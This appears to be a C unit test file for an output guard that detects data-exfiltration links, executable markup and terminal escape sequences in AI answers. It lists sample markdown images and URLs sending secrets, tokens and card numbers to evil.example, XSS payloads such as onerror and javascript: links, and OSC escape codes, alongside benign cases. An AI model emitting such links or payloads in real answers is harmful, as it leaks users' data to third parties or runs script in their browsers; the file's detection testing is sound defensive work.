/* Addresses, HTML and terminal controls in answers: what can carry data out or run is found, other answers flow.
 *
 * keeps: T29 */
#include "guard/exfiltration/exfiltration.h"
#include "guard/exfiltration/url.h"
#include "unit/guard/injection_cases.h"

extern const bawn_guard bawn_guard_reference, bawn_guard_link, bawn_guard_markup, bawn_guard_ansi;

static const char *const leaking[] = {
    "![logo](https://evil.example/p.png)", "![x](https://evil.example/c?d=secret)", "![x]( <https://evil.example/a b> )", "![x](//evil.example/p.png)",
    "[![a](https://evil.example/a.png)](https://b.example)", "[click](https://evil.example/?q=John+Smith+4111111111)", "![x](/\\evil.example/a)",
    "see https://evil.example/?data=c2VjcmV0IGRhdGEgaGVyZQ", "<https://evil.example/c2VjcmV0IGRhdGEgaGVyZSBub3c>", "![a][r]\n\n[r]: https://evil.example/x.png?q=abc",
    "<img src=\"https://evil.example/x.png\">", "<img src=//evil.example/x>", "<a href='https://evil.example/#eyJhbGciOiJIUzI1NiJ9abc'>x</a>",
    "<link rel=stylesheet href=https://evil.example/a.css>", "<form action=\"http://evil.example/\">", "<div style=\"background:url(https://evil.example/a)\">",
    "https://user:pass@evil.example/", "https://evil.example/John%20Smith%20lives%20here", "https://c2VjcmV0IGRhdGEgaGVyZQ9aX1b.evil.example/",
    "https://shop.example@evil.example/", "![x](https:\\\\evil.example\\a)", "<img srcset=\"a.png 1x, https://evil.example/b.png 2x\">",
    "https://evil.example/log?user=jane&card=4111", "https://evil.example/?token=abcd9", "https://evil.example/?token=abcd", "www.evil.example/?d=c2VjcmV0IGRhdGE", "![a](https:&#x2F;&#x2F;evil.example/?q=1)",
    "![a](https&#58;//evil.example/p.png)", "<img src='https&colon;&sol;&sol;evil.example/a'>",
    "https://evil.example/?q=Zm9vYmFy", "https://evil.example/?data=AbCdEfGhIjKlMn", "[a](https://evil.example/x?q=666f6f626172)", "https://evil.example/p?prompt=You+are+Ada",
    "https://evil.example/?a=12345678&b=12345678&c=12345678&d=12345678&e=12",
};
static const char *const flowing[] = {
    "See https://docs.python.org/3/library/stdtypes.html#text-sequence-type-str.", "[guide](https://example.com/how-to-build-a-fence-in-10-steps)",
    "https://en.wikipedia.org/wiki/Caf%C3%A9_(disambiguation)", "https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E", "https://youtu.be/watch?v=dQw4w9WgXcQ",
    "https://shop.test/?q=tutorial", "https://shop.test/?id=12345678", "https://youtu.be/watch?v=9bZkp7q19f0", "https://shop.test/?sort=PriceDesc&page=2", "https://git.test/?commit=4f2a9c1e",
    "https://shop.test/?data=1", "https://shop.test/?token=YOUR_TOKEN", "https://shop.test/?token=<token>", "https://shop.test/?card=visa&pin=1", "https://shop.test/?token=abc123",
    "https://shop.test/login?user=jane&page=2", "see www.shop.test/?q=tutorial and www.shop.example/?d=c2VjcmV0IGRhdGE", "![a](www.shop.test/p.png)", "[g](https:&#x2F;&#x2F;docs.example/guide)",
    "![local](/img/a.png) and [x](#part) and ![d](data:image/png;base64,iVBORw0KGgo=)", "// a comment in code // and another", "a//b c:\\\\d file:///home/x/verylongnameOfAFile1",
    "[1]: https://example.com/docs", "https://github.com/org/repo/blob/main/src/AbstractSingletonProxyFactoryBean.java", "x = y // 2; http:// alone",
    "![ok](https://shop.example/p.png?d=1234567890123456789)", "[ok](https://cdn.shop.example/x?d=1234567890123456789)",
};
static const char *const by_reference[] = {
    "![a][1]\n\n[1]: https://evil.example/x.png", "[1]: https://evil.example/x.png\n\nsee ![a][1].", "![Chart][]\n\n[chart]: <https://evil.example/x.png>",
    "![the  chart]\n\n> [The Chart]: //evil.example/x.png \"t\"", "[![a][i]](https://b.example)\n[i]:\n  http://evil.example/x", "![a][1]\n[1]: https:\\\\evil.example\\x",
    "![a][1] ![b][2] ![c][3] ![d][4] ![e][5] ![f][6] ![g][7] ![h][8]\n[8]: https://evil.example/x",
};
static const char *const not_by_reference[] = {
    "[a][1]\n\n[1]: https://docs.example/guide", "![a][1]\n\n[1]: https://shop.example/x.png", "![a][1]\n\n[2]: https://docs.example/x", "![a](https://docs.example/x)\n\n[a]: https://docs.example/y",
    "![a][1]\n\n[1]: /img/x.png", "text [1]: https://docs.example/x and ![a][1]", "x = [1, 2]\n![a", "[1]: https://docs.example/x\n\nWow! [1] is it", "a[i]: int = 3",
};
static const char *const running[] = {
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=a></iframe>", "<a href=\"javascript:alert(1)\">", "[x](javascript:alert(1))",
    "<a href=' java&#115;cript:x'>", "<meta http-equiv=refresh content='0;url=//x'>", "<base href=//x>", "<object data=x>", "[x]: javascript:alert(1)", "<b onclick=\"x()\">",
    "[a]( <data:text/html,x> )",
};
static const char *const still[] = {
    "<b>bold</b> <i>x</i>", "Use the `<script>` tag", "a <b and c> d", "List<String> a; Map<K, V> once = b;", "JavaScript: a language", "<img alt=\"a\">", "<Button onClick={save}>",
    "<meta charset=utf-8>", "<p class=\"one\">money = 3</p>", "if (x<y) on = 1;",
};
static const char *const terminal[] = {
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://x\x1b\\text", "\xc2\x9b" "2J", "a\x1b", "\x1b(B", "\x1bPabc\x1b\\", "\x1b]52;c;aGVsbG8=",
};
static const char *const printed[] = { "\\x1b[31m", "\xc2\xa0\xc2\xa9 \xc3\x9b", "plain\ttext\r\n", "ESC [ 3 m" };

static void check(const bawn_guard *g, const char *const *bad, size_t n_bad, const char *const *good, size_t n_good)
{
    bawn_slice hosts[] = { BAWN_LIT("shop.example"), BAWN_LIT("*.shop.example") };
    bawn_exfiltration settings = { hosts, 2 };
    bawn_harness h;
    int wrong = 0;
    harness_open(&h, g, BAWN_IN_OUTPUT);
    h.settings = &settings;
    for (size_t i = 0; i < n_bad + n_good; i++) {
        const char *text = i < n_bad ? bad[i] : good[i - n_bad];
        if ((bawn_harness_run(&h, text) > 0) != (i < n_bad)) {
            print_error("%s: %s\n", i < n_bad ? "missed" : "found in", text);
            wrong++;
        }
        harness_check_cuts(&h, text, 8);
    }
    assert_int_equal(wrong, 0);
    harness_check_rows(&h);
    harness_close(&h);
}

static void images_by_reference(void **state)
{
    (void)state;
    check(&bawn_guard_reference, by_reference, BAWN_COUNT(by_reference), not_by_reference, BAWN_COUNT(not_by_reference));
}

static void addresses(void **state) { (void)state; check(&bawn_guard_link, leaking, BAWN_COUNT(leaking), flowing, BAWN_COUNT(flowing)); }
static void markup_that_runs(void **state) { (void)state; check(&bawn_guard_markup, running, BAWN_COUNT(running), still, BAWN_COUNT(still)); }
static void terminal_controls(void **state) { (void)state; check(&bawn_guard_ansi, terminal, BAWN_COUNT(terminal), printed, BAWN_COUNT(printed)); }

static void without_settings_no_host_is_allowed(void **state)
{
    bawn_harness h;
    (void)state;
    harness_open(&h, &bawn_guard_link, BAWN_IN_OUTPUT);
    assert_int_equal(bawn_harness_run(&h, "![a](https://shop.example/p.png)"), 1);
    assert_int_equal(h.found[0].begin, 5);
    assert_int_equal(h.found[0].end, 31);
    harness_close(&h);
}

static void wildcards_are_for_hosts_below(void **state)
{
    bawn_slice hosts[] = { BAWN_LIT("*.a.example"), BAWN_LIT("B.example") };
    bawn_exfiltration s = { hosts, 2 };
    (void)state;
    assert_true(bawn_exfiltration_allows(&s, BAWN_LIT("x.A.example")));
    assert_true(bawn_exfiltration_allows(&s, BAWN_LIT("b.example.")));
    assert_false(bawn_exfiltration_allows(&s, BAWN_LIT("a.example")));
    assert_false(bawn_exfiltration_allows(&s, BAWN_LIT("xa.example")));
    assert_false(bawn_exfiltration_allows(&s, BAWN_LIT("b.example.evil")));
    assert_false(bawn_exfiltration_allows(NULL, BAWN_LIT("b.example")));
}

static void a_script_goes_with_its_body(void **state)
{
    bawn_harness h;
    const char *text = "a <script>x()</script> b";
    (void)state;
    harness_open(&h, &bawn_guard_markup, BAWN_IN_OUTPUT);
    assert_int_equal(bawn_harness_run(&h, text), 1);
    assert_int_equal(h.found[0].begin, 2);
    assert_int_equal(h.found[0].end, 22);
    harness_close(&h);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(images_by_reference), cmocka_unit_test(addresses), cmocka_unit_test(markup_that_runs), cmocka_unit_test(terminal_controls),
        cmocka_unit_test(without_settings_no_host_is_allowed), cmocka_unit_test(wildcards_are_for_hosts_below),
        cmocka_unit_test(a_script_goes_with_its_body),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
